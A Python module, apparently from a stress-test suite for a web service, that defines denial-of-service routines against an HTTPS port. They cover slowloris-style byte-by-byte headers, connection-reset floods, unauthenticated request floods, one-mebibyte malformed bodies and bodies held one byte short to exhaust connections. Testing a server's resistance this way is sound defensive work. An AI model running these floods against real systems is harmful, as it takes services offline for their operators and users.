"""Attacks on the HTTPS port for websites: slow heads, many connections, floods of requests, and bodies."""
import time

from network import Crowd, plain_socket, reset, tls

# As many connections as the port takes.
CONNECTIONS = 512
HEAD = b"GET /v1/health HTTP/1.1\r\nHost: localhost\r\n"
MEBIBYTE = 1_048_576


def slow_heads(target, tally):
    """Every connection that the port takes, each with a head that comes byte by byte."""
    head = HEAD + b"X-Slow: " + b"x" * 4000
    crowd = Crowd(target.context(), target.web_port)
    while True:
        crowd.grow(CONNECTIONS - len(crowd.open), deadline_s=5)
        for place in range(200):
            for descriptor, link in list(crowd.open.items()):
                try:
                    link.send(head[place:place + 1])
                    tally.count()
                except OSError:
                    del crowd.open[descriptor]
                    link.close()
            time.sleep(0.05)


def web_connects(target, tally):
    """Connects to the port and resets."""
    while True:
        reset(plain_socket(target.web_port))
        tally.count()


def web_requests(target, tally):
    """Requests without a token on a connection that is kept, one after the other."""
    request = HEAD.replace(b"/v1/health", b"/v1/orders") + b"\r\n"
    context = target.context()
    while True:
        try:
            with tls(context, target.web_port) as link:
                while True:
                    link.send(request)
                    if not link.recv(65536):
                        break
                    tally.count()
        except OSError:
            pass


def unwanted_bodies(target, tally):
    """Bodies of a mebibyte without a token: refused by the head, before the body is read."""
    send_bodies(target, tally, b"")


def wanted_bodies(target, tally):
    """Bodies of a mebibyte that are no JSON, with the token of a malicious web shop."""
    send_bodies(target, tally, b"Authorization: Bearer " + target.site_token.encode() + b"\r\n")


def send_bodies(target, tally, credential):
    head = (b"PUT /v1/orders/1 HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n" + credential
            + b"Content-Length: %d\r\n\r\n" % MEBIBYTE)
    body = b"[" * MEBIBYTE
    context = target.context()
    while True:
        try:
            with tls(context, target.web_port) as link:
                while True:
                    link.sendall(head)
                    link.sendall(body)
                    tally.count()
                    if b"Connection: close" in link.recv(65536):
                        break
        except OSError:
            pass


def held_bodies(target, tally):
    """Every connection that the port takes, each with a body that stops one byte before its end."""
    head = (b"PUT /v1/orders/1 HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nAuthorization: Bearer "
            + target.site_token.encode() + b"\r\nContent-Length: %d\r\n\r\n" % MEBIBYTE)
    crowd = Crowd(target.context(), target.web_port)
    body = b"[" * (MEBIBYTE - 1)
    while True:
        crowd.grow(CONNECTIONS - len(crowd.open), deadline_s=5)
        for descriptor, link in list(crowd.open.items()):
            try:
                link.settimeout(5)
                link.sendall(head)
                link.sendall(body)
                tally.count()
                link.setblocking(False)
            except OSError:
                del crowd.open[descriptor]
                link.close()
        time.sleep(0.5)
